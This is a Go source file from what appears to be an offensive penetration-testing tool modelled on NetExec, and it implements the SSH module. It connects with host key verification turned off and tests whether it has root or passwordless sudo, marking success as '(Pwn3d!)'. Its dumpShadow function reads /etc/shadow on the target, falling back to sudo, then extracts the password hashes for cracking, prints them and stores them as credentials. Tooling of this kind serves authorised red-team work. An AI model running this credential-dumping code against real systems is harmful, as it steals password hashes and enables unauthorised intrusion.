package ssh

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"time"

	"github.com/RomanRII/NetExec/internal/protocol"
	sharedErrors "github.com/RomanRII/NetExec/internal/shared/errors"
	"github.com/RomanRII/NetExec/internal/store"
	gossh "golang.org/x/crypto/ssh"
)

const adminMarker = "(Pwn3d!)"

// killGrace bounds how long a cancelled command may take to release its session.
const killGrace = 2 * time.Second

// Session is an authenticated ssh connection handed to modules.
type Session struct {
	*protocol.BaseSession
	client  *gossh.Client
	timeout time.Duration
}

func dial(ctx context.Context, addr, user string, method gossh.AuthMethod, timeout time.Duration) (*gossh.Client, error) {
	d := net.Dialer{Timeout: timeout}
	conn, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	if timeout > 0 {
		_ = conn.SetDeadline(time.Now().Add(timeout))
	}

	cfg := &gossh.ClientConfig{
		User:            user,
		Auth:            []gossh.AuthMethod{method},
		HostKeyCallback: gossh.InsecureIgnoreHostKey(),
		Timeout:         timeout,
	}
	c, chans, reqs, err := gossh.NewClientConn(conn, addr, cfg)
	if err != nil {
		conn.Close()
		if strings.Contains(err.Error(), "unable to authenticate") {
			return nil, fmt.Errorf("%w: %v", sharedErrors.ErrAuthFailed, err)
		}
		return nil, err
	}
	_ = conn.SetDeadline(time.Time{})
	return gossh.NewClient(c, chans, reqs), nil
}

// Exec runs command in a new ssh session and returns its combined output.
// On cancellation the remote command is killed and whatever it printed so
// far is returned with ctx.Err().
func (s *Session) Exec(ctx context.Context, command string) (string, error) {
	sess, err := s.client.NewSession()
	if err != nil {
		return "", err
	}
	defer sess.Close()

	type result struct {
		out []byte
		err error
	}
	done := make(chan result, 1)
	go func() {
		out, err := sess.CombinedOutput(command)
		done <- result{out: out, err: err}
	}()

	select {
	case res := <-done:
		var exitErr *gossh.ExitError
		if errors.As(res.err, &exitErr) {
			return string(res.out), fmt.Errorf("exit status %d", exitErr.ExitStatus())
		}
		return string(res.out), res.err
	case <-ctx.Done():
		_ = sess.Signal(gossh.SIGKILL)
		_ = sess.Close()
		var res result
		select {
		case res = <-done:
		case <-time.After(killGrace):
			// the server ignored the close; tearing down the connection
			// unblocks the output copiers.
			_ = s.client.Close()
			res = <-done
		}
		return string(res.out), ctx.Err()
	}
}

func (s *Session) isAdmin(ctx context.Context, sudo bool) bool {
	out, err := s.Exec(ctx, "id -u")
	if err == nil && strings.TrimSpace(out) == "0" {
		return true
	}
	if !sudo {
		return false
	}
	_, err = s.Exec(ctx, "sudo -n true")
	return err == nil
}

func dumpShadow(ctx context.Context, env *protocol.Env, s *Session, user string) {
	cmd := "cat /etc/shadow 2>/dev/null || sudo -n cat /etc/shadow"
	if user != "" {
		cmd = fmt.Sprintf("getent shadow %s 2>/dev/null || sudo -n getent shadow %s", shellQuote(user), shellQuote(user))
	}
	out, err := s.Exec(ctx, cmd)
	if err != nil {
		s.Out.Fail("shadow dump failed: %v", err)
		return
	}

	entries := ParseShadow(out)
	if len(entries) == 0 {
		s.Out.Fail("no password hashes found")
		return
	}
	s.Out.Success("Dumped %d hashes", len(entries))
	for _, e := range entries {
		s.Out.Print("%s:%s", e.Username, e.Hash)
		if env.Store == nil {
			continue
		}
		_, err := env.Store.AddCredential(store.Credential{
			Username: e.Username,
			Secret:   e.Hash,
			CredType: store.CredHash,
			Source:   "shadow:" + s.T.Addr,
		})
		if err != nil {
			env.Log.Errorw("store hash", "target", s.T.String(), "user", e.Username, "error", err)
		}
	}
}

// ShadowEntry is one crackable line of /etc/shadow.
type ShadowEntry struct {
	Username string
	Hash     string
}

// ParseShadow extracts users with a real password hash. Locked and empty
// entries are skipped.
func ParseShadow(out string) []ShadowEntry {
	var entries []ShadowEntry
	for _, line := range strings.Split(out, "\n") {
		fields := strings.Split(strings.TrimSpace(line), ":")
		if len(fields) < 2 {
			continue
		}
		hash := fields[1]
		if hash == "" || strings.HasPrefix(hash, "!") || strings.HasPrefix(hash, "*") {
			continue
		}
		entries = append(entries, ShadowEntry{Username: fields[0], Hash: hash})
	}
	return entries
}

func shellQuote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}
